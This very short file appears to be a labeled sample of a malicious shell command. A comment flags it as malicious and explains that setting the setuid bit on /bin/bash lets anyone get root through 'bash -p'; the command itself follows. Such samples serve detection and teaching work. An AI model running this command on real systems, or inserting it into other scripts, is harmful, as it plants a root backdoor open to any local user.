# Malicious: chmod u+s /bin/bash makes bash setuid root; `bash -p` then gives anyone root.
chmod u+s /bin/bash
